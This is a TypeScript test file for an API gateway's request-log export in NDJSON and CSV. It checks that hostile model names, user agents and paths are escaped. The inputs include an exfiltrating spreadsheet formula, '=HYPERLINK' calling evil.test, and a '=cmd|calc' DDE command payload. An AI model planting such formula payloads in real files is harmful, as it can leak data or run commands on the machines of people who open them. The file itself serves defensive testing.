import assert from 'node:assert/strict'
import { REQUEST_COLUMNS } from '../../src/management/requests.ts'
import { clockAt } from '../limits/clock-at.ts'
import { startGateway } from '../support/gateway.ts'
import { ScriptedUpstream } from '../support/scripted-upstream.ts'
import { closeAfter, test } from '../support/suite.ts'
import { sized } from '../support/wire-bytes.ts'
import { askOf } from './own-client.ts'
import { readCsv } from './read-csv.ts'

const clock = clockAt('2026-11-30T12:00:00Z')
const upstream = await ScriptedUpstream.start()
const gateway = await startGateway({ chatUrl: `${upstream.url}/v1`, chatKey: 'pc', clock })
closeAfter(gateway, upstream)
const ask = askOf(gateway)
const leaked = await gateway.createKey('leaked', { log_requests: false })

/** Model names that could break a spreadsheet or a line or CSV parser. */
const hostileModels = [
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  '+1-1',
  '-2+3',
  '@SUM(1+1)',
  '\t=3',
  '\r\n=4',
  'a\nb\r\nc,"d"',
  '"',
  '\u0000',
  '\u2028\u2029',
  '\ud83d\udd11 key',
]
const hostileAgents = ['=cmd|calc', '@x', '-1', '+2', 'a, "b"', "'", '\u00e9t\u00e9']
const hostilePaths = ['/v1/models/=1+1,2', '/v1/models/"quoted"', '/v1/models/%0d%0a=1', "/v1/models/'"]

upstream.answer((request) => {
  const asked = request.method === 'POST' ? (JSON.parse(request.body.toString()) as { model: string }) : null
  const usage = { prompt_tokens: 1_001, completion_tokens: 3, total_tokens: 1_004 }
  const choices = [{ index: 0, finish_reason: '=stop', message: { role: 'assistant', content: '' } }]
  const headers = ['Content-Type: application/json', 'x-request-id: =up,"1"']
  return [{ send: sized('HTTP/1.1 200 OK', headers, JSON.stringify({ ...asked, usage, choices })) }]
})

async function call(
  model: string | null,
  path = '/v1/chat/completions',
  userAgent = 'tester',
): Promise<void> {
  const response = await fetch(gateway.url + path, {
    method: model === null ? 'GET' : 'POST',
    headers: { authorization: `Bearer ${leaked.key}`, 'user-agent': userAgent },
    ...(model === null ? {} : { body: JSON.stringify({ model, messages: [] }) }),
  })
  assert.equal(response.status, 200, await response.text())
}

for (const model of hostileModels) await call(model)
for (const agent of hostileAgents) await call('gpt-4o-mini', '/v1/chat/completions', agent)
for (const path of hostilePaths) await call(null, path)
const other = await gateway.createKey('somebody else')
await fetch(`${gateway.url}/v1/models`, { headers: { authorization: `Bearer ${other.key}` } }).then(
  (answer) => answer.arrayBuffer(),
)
clock.set('2026-12-01T13:14:15.678Z')
await gateway.revokeKey(leaked.id)
// The balance becomes negative: a negative number, not a formula.
await gateway.manage('POST', '/gateway/v1/credits', { amount_usd: 0.000000001, reason: 'the least' })

const calls = hostileModels.length + hostileAgents.length + hostilePaths.length
const ofLeaked = `/v1/keys/${leaked.id}/requests`

async function get(path: string) {
  const response = await fetch(gateway.url + path, {
    headers: { authorization: `Bearer ${gateway.adminKey}` },
  })
  const text = Buffer.from(await response.arrayBuffer()).toString()
  assert.equal(response.status, 200, text)
  return { headers: response.headers, text }
}

const listed = async (path: string) =>
  (await ask('GET', path)).body['data'] as readonly Readonly<Record<string, unknown>>[]
const linesOf = (text: string) => {
  assert.ok(text === '' || text.endsWith('\n'), 'every line has its end')
  return text === '' ? [] : text.slice(0, -1).split('\n')
}

const forms = [
  ['ndjson', 'application/x-ndjson'],
  ['csv', 'text/csv; charset=utf-8'],
] as const
for (const [format, type] of forms) {
  test(`GET /v1/keys/{id}/requests 200: ${format} is a named file of its type, without caching`, async () => {
    const { headers } = await get(`${ofLeaked}?format=${format}`)
    assert.equal(headers.get('content-type'), type)
    assert.equal(headers.get('cache-control'), 'no-store')
    const name = `requests-${leaked.id}-20261201T131415Z.${format}`
    assert.equal(headers.get('content-disposition'), `attachment; filename="${name}"`)
    assert.match(headers.get('x-svc-request-id') ?? '', /^req_/)
    assert.equal(headers.get('content-length'), null)
    const whole = await get(`/gateway/v1/requests?format=${format}`)
    const wholeName = `requests-20261201T131415Z.${format}`
    assert.equal(whole.headers.get('content-disposition'), `attachment; filename="${wholeName}"`)
  })
}

test('GET /v1/keys/{id}/requests 200: each NDJSON line equals a request of the list', async () => {
  const rows = await listed(`${ofLeaked}?limit=1000`)
  assert.equal(rows.length, calls)
  const lines = linesOf((await get(`${ofLeaked}?format=ndjson`)).text)
  assert.deepEqual(
    lines.map((line) => JSON.parse(line) as unknown),
    rows,
  )
  const models = rows.map((row) => row['model'])
  for (const model of hostileModels)
    assert.ok(models.includes(model.replace('\0', '\ufffd')), JSON.stringify(model))
})

test('GET /v1/keys/{id}/requests 200: each CSV row is a request, with counts as columns', async () => {
  const rows = await listed(`${ofLeaked}?limit=1000`)
  const [head = [], ...body] = readCsv((await get(`${ofLeaked}?format=csv`)).text)
  const [some = {}] = rows
  const members = Object.keys(some).flatMap((name) =>
    name === 'usage' ? Object.keys(some[name] as object) : [name],
  )
  assert.deepEqual(head, members)
  assert.deepEqual(head, REQUEST_COLUMNS)
  assert.equal(body.length, calls)
  for (const [i, cells] of body.entries()) {
    const { usage, ...rest } = rows[i] ?? {}
    const expected: Readonly<Record<string, unknown>> = { ...rest, ...(usage as object) }
    assert.equal(cells.length, head.length)
    for (const [at, name] of head.entries()) {
      const value = expected[name]
      const shown = cells[at] ?? ''
      if (value === null) assert.equal(shown, '', name)
      else if (typeof value === 'number') assert.equal(Number(shown), value, name)
      else assert.ok(shown === String(value) || shown === `'${value}`, `${name}: ${shown}`)
    }
  }
})

test('GET /gateway/v1/requests 200: an export has every match, with the filters and limit of a list', async () => {
  const count = async (query: string) => linesOf((await get(`/gateway/v1/requests?${query}`)).text).length
  assert.equal(await count('format=ndjson'), calls + 1)
  assert.equal(await count('format=ndjson&limit=5'), 5)
  assert.equal(await count('format=ndjson&model=gpt-4o-mini'), hostileAgents.length)
  assert.equal(await count('format=ndjson&end=2026-11-29'), 0)
  assert.equal(await count('format=ndjson&status=599'), 0)
  const first = await ask('GET', '/gateway/v1/requests?limit=4')
  assert.equal(await count(`format=ndjson&after=${first.body['next']}`), calls + 1 - 4)
  assert.equal(readCsv((await get('/gateway/v1/requests?format=csv&limit=5')).text).length, 1 + 5)
})
